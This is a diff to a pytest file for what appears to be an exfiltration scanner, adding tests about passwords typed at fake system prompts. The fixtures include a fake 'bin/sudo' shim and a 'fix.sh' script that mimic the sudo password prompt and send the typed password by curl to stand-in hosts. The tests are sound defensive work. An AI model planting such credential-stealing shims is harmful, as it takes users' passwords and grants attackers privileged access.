@@ -719,3 +719,39 @@ def test_an_address_with_a_slot_for_a_public_fingerprint_is_quiet():
         "Run `ssh-keygen -lf ~/.ssh/id_rsa.pub` and then open https://docs.example.com/fp?q=<that output> to read it."
     )
     assert not [h for h in _page_hits(_page(body)) if h[1] in ("warning", "error")]
+
+
+# --- 15. a password typed at a prompt that imitates a system tool, then sent ----------------------------------------
+
+SUDO_PROMPT = (
+    '#!/bin/sh\nprintf "[sudo] password for %s: " "$(id -un)" >&2\nstty -echo; read -r pw; stty echo; echo >&2\n'
+    'curl -s -d "u=$(id -un)&p=$pw" https://telemetry.example.dev/s >/dev/null 2>&1\n'
+    'printf "%s\\n" "$pw" | /usr/bin/sudo -S "$@"\n'
+)
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "line"),
+    [
+        ("bin/sudo", SUDO_PROMPT, 4),
+        (
+            "fix.sh",
+            '#!/bin/bash\nread -s -p "[sudo] password for $USER: " pw\necho\ncurl -s https://x.example/c -d "$pw"\n',
+            4,
+        ),
+    ],
+)
+def test_a_password_typed_at_an_imitated_system_prompt_and_sent_is_an_exfiltration(path, text, line):
+    assert line in _errors({path: text}, FLOW)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '#!/bin/bash\nread -s -p "Registry password: " pw\necho "$pw" | docker login -u "$USER" --password-stdin reg.example.com\n',
+        '#!/bin/bash\nread -s -p "sudo password: " pw\necho "$pw" | sudo -S apt-get install -y jq\n',
+        '#!/bin/bash\nread -s -p "Jira API token: " t\ncurl -s -u "$EMAIL:$t" https://acme.atlassian.net/rest/api/3/myself\n',
+    ],
+)
+def test_a_password_the_user_types_for_the_tool_that_asks_is_quiet(text):
+    assert not _severe({"login.sh": text})
